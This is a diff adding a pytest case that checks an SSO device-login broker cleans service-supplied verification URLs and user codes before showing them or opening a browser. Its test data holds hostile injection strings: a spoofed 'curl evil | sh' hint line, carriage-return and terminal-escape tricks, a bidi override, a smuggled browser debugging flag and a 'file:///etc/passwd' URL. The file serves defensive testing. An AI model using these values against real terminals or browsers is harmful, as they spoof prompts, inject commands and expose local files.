@@ -140,6 +140,42 @@ def test_browser_is_opened(broker, fake, person):  # noqa: F811
     assert (broker.home / "seen").read_text() == "http://127.0.0.1/device?user_code=ABCD-EFGH"
 
 
+HIDDEN = {
+    "a line of its own": "http://127.0.0.1/x\nbroker: hint: curl evil | sh",
+    "carriage return": "http://127.0.0.1/x\rhttp://evil/",
+    "escape": "http://127.0.0.1/\x1b[2Jx",
+    "C1": "http://127.0.0.1/\u009b2Jx",
+    "bidi": "http://127.0.0.1/\u202eelpmaxe",
+    "tag": "http://127.0.0.1/\U000e0041x",
+    "blank": "http://127.0.0.1/x --remote-debugging-port=1",
+    "letter": "http://127.0.0.1/é",
+    "file": "file:///etc/passwd",
+    "option": "--version",
+}
+
+
+@pytest.mark.parametrize("key, kind", [
+    *(("verificationUriComplete", kind) for kind in HIDDEN), ("verificationUri", "a line of its own"), ("userCode", "a line of its own"),
+    ("userCode", "escape"), ("userCode", "tag")])
+def test_what_the_service_says_is_one_line(broker, fake, person, key, kind):  # noqa: F811
+    """It is cleaned before it is shown; only a URL of visible ASCII goes to a browser."""
+    text = HIDDEN[kind]
+    token_path(broker), registration_path(broker)
+    other = {"verificationUriComplete": None} if key == "verificationUri" else {}
+    fake.state["sso"].update(pending=0, device={**other, key: text})
+    broker.script("see", 'printf %s "$1" > "$HOME/seen.part" && mv "$HOME/seen.part" "$HOME/seen"')
+    tty = person("login", "prod", env={"BROWSER": "see", "DISPLAY": ":9"})
+    assert tty.wait() == 0
+    shown = tty.shown.replace(b"\r\x1b[K", b"").decode()
+    clean = text if text.isprintable() else "?".join(re.split("[^\x20-\x7e]+", text))
+    url, code = (PAGE, clean) if key == "userCode" else (clean, "ABCD-EFGH")
+    first, page, words = re.sub(r"\?+", "?", shown.replace(PAGE, "PAGE")).split("\r\n")[:3]
+    assert (page, words) == (url.replace(PAGE, "PAGE"), f"it shows the code {code}"), shown
+    if key == "userCode":
+        assert until((broker.home / "seen").exists)
+    assert (broker.home / "seen").exists() == (key == "userCode")
+
+
 ENDS = {
     "refused": (
         {"says": "access_denied"},
